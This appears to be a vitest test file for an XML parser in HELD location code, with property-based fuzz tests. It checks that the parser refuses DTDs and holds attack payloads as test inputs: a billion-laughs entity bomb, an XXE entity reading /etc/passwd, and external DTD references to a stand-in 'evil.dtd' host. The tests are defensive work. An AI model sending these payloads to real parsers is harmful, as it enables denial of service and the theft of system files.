// What the network sends the phone is hostile until read: the XML reader must refuse
// DTDs (entity bombs, external entities) with a typed error, and any input at all must
// end in a document or an XmlError, never another exception.
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { parseHeldResponse } from '../../../agent/location/held.js';
import { answerHeld } from '../../../provisioning/server/held.js';
import { parseXml, XmlDoctypeError, XmlError } from '../../../provisioning/pidf/xml.js';

const HELD = 'urn:ietf:params:xml:ns:geopriv:held';

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<locationResponse xmlns="${HELD}"><locationUriSet><locationURI>&lol9;</locationURI></locationUriSet></locationResponse>`;

const XXE = `<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<locationResponse xmlns="${HELD}"><locationUriSet><locationURI>&xxe;</locationURI></locationUriSet></locationResponse>`;

const PARAMETER_ENTITY = `<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://192.0.2.1/evil.dtd"> %ext;]><r/>`;
const EXTERNAL_DTD = `<!DOCTYPE r SYSTEM "http://192.0.2.1/r.dtd"><r/>`;

describe('XML reader: DTDs and entities', () => {
  it('refuses a billion-laughs document at the DOCTYPE, typed, without expanding it', () => {
    const t0 = performance.now();
    expect(() => parseXml(BILLION_LAUGHS)).toThrow(XmlDoctypeError);
    expect(performance.now() - t0).toBeLessThan(200);
  });

  it('refuses external entities, parameter entities and an external DTD subset', () => {
    for (const doc of [XXE, PARAMETER_ENTITY, EXTERNAL_DTD]) {
      expect(() => parseXml(doc)).toThrow(XmlDoctypeError);
      expect(() => parseXml(doc)).toThrow(/DOCTYPE/);
    }
  });

  it('knows only the five predefined entities and character references', () => {
    expect(parseXml('<a>&lt;&gt;&amp;&quot;&apos;&#65;&#x42;</a>').text).toBe('<>&"\'AB');
    expect(() => parseXml('<a>&xxe;</a>')).toThrow(XmlError);
  });

  it('refuses characters XML cannot carry, as an XmlError (not a RangeError)', () => {
    for (const doc of ['<a>&#x110000;</a>', '<a>&#0;</a>', '<a b="&#xFFFFFFFF;"/>']) {
      expect(() => parseXml(doc)).toThrow(XmlError);
    }
  });

  it('refuses malformed documents the reader used to let through', () => {
    expect(() => parseXml('<a b="1" b="2"/>')).toThrow(XmlError);
    expect(() => parseXml('<a b="x<y"/>')).toThrow(XmlError);
  });

  it('the phone reports a DOCTYPE answer as badResponse; the server answers xmlError', async () => {
    expect(parseHeldResponse(BILLION_LAUGHS)).toMatchObject({ ok: false, code: 'badResponse', message: expect.stringMatching(/DOCTYPE/) });
    const reply = await answerHeld(
      XXE.replace('locationResponse', 'locationRequest').replace('locationResponse', 'locationRequest'),
      { ip: '127.0.0.1' },
      {
        providerName: 'x',
        locate: () => null,
      },
    );
    expect(parseHeldResponse(reply.body)).toMatchObject({ ok: false, code: 'xmlError', message: expect.stringMatching(/DOCTYPE/) });
  });
});

describe('XML reader: fuzz', () => {
  const SEED_DOC = `<?xml version="1.0"?><locationResponse xmlns="${HELD}"><locationUriSet expires="2026-12-01T00:00:00Z"><locationURI>https://lis.example/a?x=1&amp;y=2</locationURI></locationUriSet><presence xmlns="urn:ietf:params:xml:ns:pidf" entity="pres:a@b"><tuple id="t"><status><gp:geopriv xmlns:gp="urn:ietf:params:xml:ns:pidf:geopriv10"><gp:location-info><![CDATA[x]]></gp:location-info></gp:geopriv></status></tuple></presence></locationResponse>`;
  const only = (f: () => unknown): void => {
    try {
      f();
    } catch (err) {
      if (!(err instanceof XmlError)) throw err;
    }
  };

  it('any string ends in a document or an XmlError', () => {
    const piece = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.constantFrom(
        '<',
        '>',
        '/>',
        '</',
        '&',
        ';',
        '&#x',
        '<!',
        '<![CDATA[',
        ']]>',
        '<?',
        '?>',
        'xmlns:p="u"',
        'p:',
        '"',
        '=',
        '<!DOCTYPE',
        '&#0;',
      ),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 20 }), (parts) => only(() => parseXml(parts.join('')))),
      { numRuns: 500, seed: 17 },
    );
  });

  it('any mutation of a HELD answer ends in a document or an XmlError, and the HELD reader never throws', () => {
    const mutation = fc.tuple(fc.nat(SEED_DOC.length), fc.nat(8), fc.string({ maxLength: 4 }));
    fc.assert(
      fc.property(mutation, ([at, drop, insert]) => {
        const doc = SEED_DOC.slice(0, at) + insert + SEED_DOC.slice(at + drop);
        only(() => parseXml(doc));
        expect(() => parseHeldResponse(doc)).not.toThrow();
      }),
      { numRuns: 500, seed: 17 },
    );
  });
});
